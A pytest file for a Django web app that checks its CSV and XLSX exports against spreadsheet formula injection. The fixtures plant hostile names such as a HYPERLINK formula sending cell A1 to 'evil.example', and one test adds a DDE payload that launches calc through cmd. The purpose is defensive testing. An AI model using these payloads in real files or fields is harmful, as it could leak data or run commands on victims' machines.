"""Every export, CSV and XLSX, with a hostile name in every text column: no formula (#14 item 2).

The exports are found from the pages themselves (each dashboard's tables), plus the payments
ledger and the portfolio. Names start with each character a spreadsheet reads as the start of
a formula; CSV must carry them behind an apostrophe and XLSX as text, and numbers stay numbers.
"""

import csv
import io
import re
import zipfile

import pytest
import time_machine
from django.db.models import QuerySet
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import FORMULA_STARTS, neutralise, restore
from custody import actions as custody_actions
from custody import numbers
from custody.models import IPAsset
from custody.payments.models import LedgerEntry
from marketplace.models import Agency, Firm, HighTechPark, Incubator, User
from tests.custody.conftest import patent_fields
from tests.reporting.world import NOW, build_world

pytestmark = pytest.mark.django_db

STARTS = ["=", "+", "-", "@", "\t", "\r", "＝"]


def _hostile(start, what, pk):
    return f'{start}HYPERLINK("https://evil.example/{what}/{pk}?"&A1,"{what}")'


@pytest.fixture
def poisoned(personas):
    """The dashboards' world with every name, title, e-mail and reference made hostile."""
    world = build_world(personas)
    planted = {}
    targets = [
        (Firm, ["name"]),
        (Agency, ["name", "name_en"]),
        (Incubator, ["name", "name_en"]),
        (HighTechPark, ["name", "name_en"]),
        (IPAsset, ["title"]),
        (User, ["email"]),
        (LedgerEntry, ["reference"]),
    ]
    for n, (model, fields) in enumerate(targets):
        for pk in model.objects.values_list("pk", flat=True):
            text = _hostile(STARTS[(n + pk) % len(STARTS)], model.__name__, pk)
            # A plain QuerySet: the ledger's own refuses updates (it is append-only).
            QuerySet(model).filter(pk=pk).update(**dict.fromkeys(fields, text))
            planted[text] = model.__name__
            # XML (so XLSX) reads a carriage return back as a line feed.
            planted[text.replace("\r", "\n")] = model.__name__
    return world, planted


def _exports(client, personas):
    """(who, url) of every export the product offers over the poisoned world."""
    found = []
    for dashboard, who in (
        ("incubator", personas.officer),
        ("programme", personas.officer),
        ("agency", personas.agency_consultant),
    ):
        client.force_login(who)
        page = client.get(reverse(f"frontend:dashboard-{dashboard}"), {"year": 2026})
        assert page.status_code == 200
        for key in page.context["tables"]:
            for fmt in ("csv", "xlsx"):
                url = reverse(f"frontend:dashboard-{dashboard}-export", args=[key, fmt])
                found.append((who, f"{url}?year=2026"))
    for fmt in ("csv", "xlsx"):
        url = reverse("frontend:payments-ledger-export", args=[fmt])
        found.append((personas.officer, f"{url}?year=2026"))
        url = reverse("frontend:portfolio-export", args=[personas.firm.pk, fmt])
        found.append((personas.firm_member, url))
        url = reverse("frontend:firm-list-export", args=[fmt])
        found.append((personas.officer, f"{url}?year=2026"))
    return found


NUMBER = re.compile(r"^[-+]?¥?-?[\d,]+(\.\d+)?( %)?$")


def _csv_cells(content):
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    return [cell for row in rows for cell in row]


def _xlsx_cells(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), f"a formula in {name}"
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return cells


def test_item_02_neutralise_and_restore():
    for start in FORMULA_STARTS:
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
        assert restore(neutralise(f"{start}1+1")) == f"{start}1+1"
    assert neutralise("青松科技") == "青松科技"
    assert restore("'plain") == "'plain"


def test_item_02_every_export_with_hostile_names_holds_no_formula(client, personas, poisoned):
    _world, planted = poisoned
    seen = {}
    with time_machine.travel(NOW, tick=False):
        for who, url in _exports(client, personas):
            client.force_login(who)
            response = client.get(url)
            assert response.status_code == 200, url
            if ".csv" in url:
                for cell in _csv_cells(response.content):
                    if cell.startswith(FORMULA_STARTS):
                        assert NUMBER.match(cell), f"{url}: {cell!r}"
                    if restore(cell) in planted:
                        assert cell == neutralise(restore(cell))
                        seen.setdefault(url, set()).add(planted[restore(cell)])
            else:
                for cell in _xlsx_cells(response.content):
                    if cell.value in planted:
                        assert cell.data_type == "s"
                        seen.setdefault(url, set()).add(planted[cell.value])
                    elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, f"{url}: {cell.value!r}"

    # The hostile names did reach the exports the review named, in both formats.
    expected = {
        "incubator/export/delivery": {"Firm", "Agency"},
        "programme/export/scorecards": {"Agency"},
        "programme/export/by_incubator": {"Incubator"},
        "programme/export/by_park": {"HighTechPark"},
        "incubator/export/no_request": {"Firm", "User"},
        "payments/ledger": {"Firm", "Agency", "LedgerEntry"},
        "portfolio/export": {"IPAsset"},
        "firms/export": {"Firm", "Incubator", "Agency"},
    }
    for fragment, models in expected.items():
        for fmt in ("csv", "xlsx"):
            urls = [url for url in seen if fragment in url and f".{fmt}" in url]
            assert urls, f"no hostile name reached {fragment}.{fmt}"
            assert models <= set().union(*(seen[url] for url in urls)), (fragment, fmt)


def test_item_02_numbers_stay_numbers_in_xlsx(client, personas, poisoned):
    with time_machine.travel(NOW, tick=False):
        client.force_login(personas.officer)
        url = reverse("frontend:dashboard-programme-export", args=["scorecards", "xlsx"])
        sheet = load_workbook(io.BytesIO(client.get(url, {"year": 2026}).content)).active
    header, *rows = list(sheet.iter_rows())
    offers = [cell.value for cell in header].index("Offers received")
    assert rows and all(row[offers].data_type == "n" for row in rows)


def test_item_02_an_exported_portfolio_imports_back_unchanged(client, personas):
    hostile = ['=HYPERLINK("https://evil.example/","x")', "+cmd|' /C calc'!A0", "@SUM(1)"]
    for n, title in enumerate(hostile):
        digits = f"20091000516{n}"
        number = digits + numbers.patent_check_digit(digits)
        custody_actions.asset_create(
            firm=personas.firm,
            by=personas.firm_member,
            fields=patent_fields(number=number, title=title),
        )
    client.force_login(personas.firm_member)
    for fmt in ("csv", "xlsx"):
        exported = client.get(reverse("frontend:portfolio-export", args=[personas.firm.pk, fmt]))
        upload = io.BytesIO(exported.content)
        upload.name = f"portfolio.{fmt}"
        response = client.post(
            reverse("frontend:portfolio-import", args=[personas.firm.pk]), {"file": upload}
        )
        assert response.status_code == 302
        titles = set(IPAsset.objects.filter(firm=personas.firm).values_list("title", flat=True))
        assert titles == set(hostile)
